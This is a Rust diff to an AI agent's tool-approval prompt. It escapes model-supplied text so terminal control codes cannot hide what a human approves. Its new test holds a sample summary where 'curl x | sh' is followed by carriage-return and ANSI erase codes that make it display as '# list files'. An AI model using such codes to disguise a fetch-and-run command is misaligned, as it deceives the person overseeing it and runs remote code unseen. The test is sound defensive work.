@@ -7,6 +7,7 @@ use std::sync::Arc;
 use tokio::sync::{Mutex, mpsc};
 
 use crate::agent::approval::{Answer, AnswerFuture, ApprovalPrompt, Approver};
+use crate::display::{visible, visible_inline};
 
 /// Lines of stdin, read on one thread so the prompt loop and approvals never race for input.
 #[derive(Clone)]
@@ -127,13 +128,18 @@ fn parse_answer(line: &str, dangerous: bool) -> Answer {
 
 /// The approval prompt text (reference §2.3): blank line, the tool, summary, details, question.
 pub fn render_prompt(prompt: &ApprovalPrompt, colour: bool) -> String {
-    let mut out = format!("\nApprove tool call: {}\n{}\n", prompt.tool, prompt.summary);
+    // Everything shown comes from the model; gg's colours are added after escaping it.
+    let mut out = format!(
+        "\nApprove tool call: {}\n{}\n",
+        visible_inline(&prompt.tool),
+        visible(&prompt.summary)
+    );
     if !prompt.reason.is_empty() {
-        out.push_str(&format!("({})\n", prompt.reason));
+        out.push_str(&format!("({})\n", visible(&prompt.reason)));
     }
     if !prompt.details.is_empty() {
         for line in prompt.details.lines() {
-            out.push_str(&colour_line(line, colour));
+            out.push_str(&colour_line(&visible(line), colour));
             out.push('\n');
         }
     }
@@ -218,5 +224,29 @@ mod tests {
         assert!(!plain.contains('\x1b'));
         let coloured = render_prompt(&p, true);
         assert!(coloured.contains("\x1b[32m+new\x1b[0m"));
+    }
+
+    #[test]
+    fn prompt_shows_model_controls_escaped() {
+        let p = ApprovalPrompt {
+            call_id: "c".into(),
+            tool: "bash".into(),
+            summary: "curl x | sh\r\x1b[2K# list files".into(),
+            details: "+a\n+\x1b[1A\x1b[2K# comment".into(),
+            reason: String::new(),
+            dangerous: false,
+        };
+        for colour in [false, true] {
+            let text = render_prompt(&p, colour);
+            assert!(!text.contains('\r'), "{text:?}");
+            assert!(
+                text.contains("curl x | sh\\r\\x1b[2K# list files"),
+                "{text:?}"
+            );
+            assert!(text.contains("\\x1b[1A\\x1b[2K# comment"), "{text:?}");
+            let escapes = text.matches('\x1b').count();
+            let ours = if colour { 4 } else { 0 };
+            assert_eq!(escapes, ours, "{text:?}");
+        }
     }
 }
